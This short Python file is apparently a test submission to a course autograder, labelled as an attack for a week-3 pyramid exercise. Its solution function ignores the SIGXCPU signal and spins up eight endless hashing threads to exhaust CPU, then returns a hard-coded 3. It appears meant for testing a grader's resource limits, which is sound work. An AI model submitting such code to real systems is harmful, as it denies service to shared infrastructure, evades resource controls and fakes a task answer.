"""Ignores SIGXCPU and burns processor time in as many threads as it gets."""
# attack: week=03 exercise=pyramid
import hashlib
import signal
import threading

signal.signal(signal.SIGXCPU, signal.SIG_IGN)


def burn():
    while True:
        hashlib.pbkdf2_hmac("sha256", b"", b"", 10**6)


def calculate_pyramid_height(number_of_blocks):
    threads = [threading.Thread(target=burn) for _ in range(8)]
    for thread in threads:
        thread.start()
    threads[0].join()
    return 3
